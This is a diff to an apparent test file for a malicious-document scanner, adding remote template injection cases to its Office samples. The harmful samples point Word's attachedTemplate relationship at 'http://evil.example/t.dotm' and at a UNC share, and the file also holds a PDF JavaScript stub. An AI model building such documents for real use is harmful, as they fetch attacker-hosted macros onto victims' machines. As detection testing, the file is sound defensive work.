@@ -32,6 +32,12 @@ MACRO_RELATION = (
 )
 
 
+TEMPLATE = (
+    '<Relationships><Relationship Id="rId1" TargetMode="External" Target="{}" '
+    'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"/></Relationships>'
+)
+
+
 def office(*parts, first="word/document.xml"):
     body = io.BytesIO()
     with zipfile.ZipFile(body, "w", zipfile.ZIP_DEFLATED) as archive:
@@ -62,6 +68,7 @@ def packed(objects):
 SCRIPT = b"<< /S /JavaScript /JS (app.alert(1)) >>"
 HONEST = [
     ("a.docx", office()),
+    ("a.docx", office(("word/_rels/settings.xml.rels", TEMPLATE.format("file:///C:/Users/an/Normal.dotm")))),
     ("a.docx", office(("word/embeddings/oleObject1.bin", compound("Root Entry", "Equation Native")))),
     ("a.docx", office(("word/embeddings/Bang.xlsx", office(first="xl/workbook.xml")))),
     ("a.doc", compound("Root Entry", "WordDocument", "1Table")),
@@ -74,6 +81,8 @@ HARMFUL = [
     ("a.docx", office(("[Content_Types].xml", TYPES.format(MACRO_TYPE)), ("word/x.bin", b"x")), "macros"),
     ("a.docx", office(("[Content_Types].xml", TYPES.format(MACRO_TYPE).encode("utf-16"))), "macros"),
     ("a.docx", office(("word/_rels/document.xml.rels", MACRO_RELATION)), "macros"),
+    ("a.docx", office(("word/_rels/settings.xml.rels", TEMPLATE.format("http://evil.example/t.dotm"))), "macros"),
+    ("a.docx", office(("word/_rels/settings.xml.rels", TEMPLATE.format(r"\\may\chung\t.dotm"))), "macros"),
     ("a.docx", office(("word/anh.png", compound("VBA", "_VBA_PROJECT", "dir"))), "macros"),
     ("a.docx", office(("word/x.bin", office(("[Content_Types].xml", TYPES.format(MACRO_TYPE))))), "macros"),
     ("a.doc", compound("Root Entry", "Macros", "VBA", "_VBA_PROJECT"), "macros"),
